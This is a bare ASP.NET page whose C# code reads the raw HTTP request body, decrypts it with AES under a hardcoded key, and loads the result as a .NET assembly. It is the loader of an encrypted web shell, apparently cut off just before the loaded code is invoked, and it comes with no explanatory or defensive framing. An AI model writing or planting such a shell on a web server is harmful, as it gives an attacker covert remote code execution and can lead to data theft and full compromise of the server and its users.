<%@ Page Language="C#" %>
<%
byte[] k = System.Text.Encoding.Default.GetBytes("0123456789abcdef");
byte[] c = Request.BinaryRead(Request.ContentLength);
var a = System.Reflection.Assembly.Load(new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(k, k).TransformFinalBlock(c, 0, c.Length));
%>
